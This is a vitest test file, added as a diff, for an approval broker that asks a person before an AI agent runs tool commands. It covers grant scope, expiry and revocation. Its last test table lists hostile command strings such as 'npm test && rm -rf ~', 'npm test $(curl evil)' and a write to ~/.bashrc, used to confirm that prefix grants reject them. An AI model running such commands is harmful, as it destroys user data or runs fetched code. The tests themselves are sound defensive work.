@@ -1,0 +1,185 @@
+import { type Action, type AskerInfo, type AskRequest, createBroker, type Grant, memoryStore, parseAsk } from "@askbox/core";
+import { memoryGrants } from "@askbox/core/stores";
+import { aGrant, anAsker, grantsContract, seededIds, testPlatform } from "@askbox/core/testing";
+import { describe, expect, test } from "vitest";
+
+describe("grants in memory", () => {
+  for (const promise of grantsContract) {
+    test(promise.name, () => promise.run({ open: async () => ({ grants: memoryGrants(), close: async () => {} }) }));
+  }
+
+  test("are a thousand at most", async () => {
+    const grants = memoryGrants();
+    for (let index = 0; index < 1_000; index += 1) await grants.add(aGrant({ id: `grant-${index}` }));
+    await expect(grants.add(aGrant({ id: "one more" }))).rejects.toMatchObject({ code: "VALIDATION" });
+  });
+});
+
+const command: Action = {
+  kind: "command",
+  tool: "Bash",
+  title: "Tests",
+  command: "npm test",
+  cwd: "/home/ada/engine",
+  input: { command: "npm test" },
+};
+const asker = (overrides: Partial<AskerInfo> = {}) => anAsker({ conversation: "conversation-1", ...overrides });
+
+async function inbox() {
+  const platform = testPlatform();
+  const broker = await createBroker({ store: memoryStore(), ...platform });
+  const desk = broker.desk({ surface: "web", name: "ada" });
+  const port = broker.asker("one");
+  const request = (action: Action): AskRequest =>
+    parseAsk({ questions: [{ question: "May it?", type: "approval", action, grants: ["session", "project"] }] }, { ids: seededIds() });
+  /** Whether it is allowed without a person, and by which grant. */
+  const granted = async (action: Action, by: AskerInfo = asker()) => {
+    const { session } = await port.ask(request(action), { asker: by, maxWait: 0 });
+    const { outcome } = session.context;
+    if (outcome === undefined) await port.withdraw(session.id);
+    return outcome?.kind === "answered" && outcome.answers[0]?.values[0] === "allow" ? outcome.by : undefined;
+  };
+  const answer = async (action: Action, value: string, by: AskerInfo = asker(), delay?: number) => {
+    const { session } = await port.ask(request(action), { asker: by, maxWait: 0 });
+    const questionId = session.request.questions[0]?.id ?? "";
+    await desk.answer(session.id, { answers: [{ questionId, values: [value] }] }, delay === undefined ? {} : { delay });
+    return session.id;
+  };
+  return { broker, clock: platform.clock, granted, answer, port, desk, request };
+}
+
+describe("an approval", () => {
+  test("that was allowed for its project is allowed there again, by the grant's name and for 8 hours", async () => {
+    const { broker, clock, granted, answer } = await inbox();
+    expect(await granted(command)).toBeUndefined();
+    const id = await answer(command, "project");
+    expect(await granted(command)).toEqual({ surface: "grant", name: `${id}-1` });
+    expect(await granted({ ...command, title: "Other words" }, asker({ conversation: "another", branch: "other" }))).toBeDefined();
+    expect(await broker.grants.list()).toMatchObject([
+      { scope: "project", shown: "npm test", by: { surface: "web", name: "ada" }, sessionId: id },
+    ]);
+    await clock.advance(8 * 3_600_000 - 1_000);
+    expect(await granted(command)).toBeDefined();
+    await clock.advance(1_000);
+    expect(await granted(command)).toBeUndefined();
+  });
+
+  test.each<[string, Action, AskerInfo]>([
+    ["another command", { ...command, command: "npm test ", input: { command: "npm test " } }, asker()],
+    ["another folder", { ...command, cwd: "/home/ada/engine/sub" }, asker()],
+    ["another argument", { ...command, input: { ...command.input, dangerouslyDisableSandbox: true } }, asker()],
+    ["another tool", { ...command, tool: "Shell" }, asker()],
+    ["another kind", { ...command, kind: "other" }, asker()],
+    ["another client", command, asker({ client: { name: "another" } })],
+    ["another project", command, asker({ project: "/home/ada/other" })],
+    ["no project", command, anAsker({ project: undefined })],
+  ])("is asked for with %s", async (_what, action, by) => {
+    const { granted, answer } = await inbox();
+    await answer(command, "project");
+    expect(await granted(action, by)).toBeUndefined();
+    expect(await granted(command)).toBeDefined();
+  });
+
+  test("that was allowed for its conversation is asked for in every other", async () => {
+    const { granted, answer } = await inbox();
+    await answer(command, "session:1d");
+    expect(await granted(command)).toBeDefined();
+    expect(await granted(command, asker({ conversation: "conversation-2" }))).toBeUndefined();
+    expect(await granted(command, anAsker())).toBeUndefined();
+  });
+
+  test("lasts as long as the person said, and is over at once when it is revoked", async () => {
+    const { broker, clock, granted, answer } = await inbox();
+    const id = await answer(command, "project:1m");
+    await clock.advance(59_000);
+    expect(await granted(command)).toBeDefined();
+    await clock.advance(1_000);
+    expect(await granted(command)).toBeUndefined();
+    const other = await answer(command, "project");
+    expect(other).not.toBe(id);
+    expect(await broker.grants.remove(`${other}-1`)).toBe(true);
+    expect(await granted(command)).toBeUndefined();
+  });
+
+  test("leaves no grant when it is allowed once, denied, withdrawn, or not yet sent", async () => {
+    const { broker, clock, granted, answer } = await inbox();
+    await answer(command, "allow");
+    await answer(command, "deny");
+    expect(await broker.grants.list()).toEqual([]);
+    await answer(command, "project", asker(), 5_000);
+    expect(await broker.grants.list()).toEqual([]);
+    await clock.advance(5_000);
+    await expect.poll(() => broker.grants.list()).toHaveLength(1);
+    expect(await granted(command)).toBeDefined();
+  });
+
+  test("cannot be granted for a project or a conversation that its agent did not name, and stays open", async () => {
+    const { answer, desk } = await inbox();
+    const refusal = (what: string) => ({ code: "VALIDATION", message: `Allow it once: its agent did not say which ${what} it works in.` });
+    await expect(answer(command, "project", anAsker({ project: undefined }))).rejects.toMatchObject(refusal("project"));
+    await expect(answer(command, "session", anAsker({ conversation: undefined }))).rejects.toMatchObject(refusal("conversation"));
+    expect((await desk.list({ statuses: ["pending"] })).items).toHaveLength(2);
+  });
+
+  test("is not answered by what an equal one was answered before, nor joined by one of another action", async () => {
+    const { port, answer, request, desk } = await inbox();
+    await answer(command, "allow");
+    const again = await port.ask(request(command), { asker: asker(), maxWait: 0 });
+    expect([again.session.state, again.session.earlierAnswer]).toEqual(["pending", undefined]);
+    const other = await port.ask(request({ ...command, command: "npm publish" }), { asker: asker(), maxWait: 0 });
+    expect([other.joined, other.session.id === again.session.id]).toEqual([false, false]);
+    expect((await desk.list({ statuses: ["pending"] })).items).toHaveLength(2);
+  });
+
+  test("is not asked back about: whoever asks for it can do nothing but take the decision", async () => {
+    const { port, request, desk } = await inbox();
+    const { session } = await port.ask(request(command), { asker: asker(), maxWait: 0 });
+    await expect(desk.askBack(session.id, { text: "Why?" })).rejects.toMatchObject({ code: "VALIDATION" });
+    expect(await desk.get(session.id)).toMatchObject({ status: "pending", revision: 1 });
+  });
+
+  test("that timed out takes no reply", async () => {
+    const { port, clock, request, desk } = await inbox();
+    const { session } = await port.ask(request(command), { asker: asker(), maxWait: 0 });
+    await clock.advance(session.request.timeout);
+    await expect.poll(async () => (await desk.get(session.id)).status).toBe("timed_out");
+    const questionId = session.request.questions[0]?.id ?? "";
+    const reply = desk.reply(session.id, { answers: [{ questionId, values: ["allow"] }] });
+    await expect(reply).rejects.toMatchObject({
+      code: "SESSION_CLOSED",
+      message: "This session timed out before; its client has gone on without it.",
+    });
+  });
+});
+
+describe("a prefix that a person wrote", () => {
+  const withPrefix = async (overrides: Partial<Grant> = {}) => {
+    const { broker, clock, granted } = await inbox();
+    await broker.grants.add(aGrant({ createdAt: clock.now(), expiresAt: clock.now() + 60_000, ...overrides }));
+    return granted;
+  };
+  const run = (line: string, more: Partial<Action> = {}): Action => ({ ...command, command: line, input: { command: line }, ...more });
+
+  test("allows plain commands that begin with it, in the project and below", async () => {
+    const granted = await withPrefix();
+    expect(await granted(run("npm test"))).toEqual({ surface: "grant", name: "grant-1" });
+    expect(await granted(run("npm test -- --run 'a b'", { cwd: "/home/ada/engine/packages/a" }))).toBeDefined();
+    expect(await granted(run("npm test", { input: { command: "npm test", timeout: 60_000 } }))).toBeDefined();
+  });
+
+  test.each<[string, Action]>([
+    ["joined with another", run("npm test && rm -rf ~")],
+    ["with a substitution", run("npm test $(curl evil)")],
+    ["with a redirection", run("npm test > ~/.bashrc")],
+    ["on two lines", run("npm test\nrm -rf ~")],
+    ["with a variable before it", run("NODE_OPTIONS=--require=x npm test")],
+    ["that begins with other letters", run("npm tests")],
+    ["outside of the project", run("npm test", { cwd: "/home/ada/engineering" })],
+    ["in a folder that leads out of the project", run("npm test", { cwd: "/home/ada/engine/../other" })],
+    ["with another argument of its tool", run("npm test", { input: { command: "npm test", sandbox: false } })],
+    ["that is not what the tool is given", run("npm test", { input: { command: "rm -rf ~" } })],
+  ])("allows no command %s", async (_what, action) => {
+    const granted = await withPrefix();
+    expect(await granted(action)).toBeUndefined();
+  });
+});
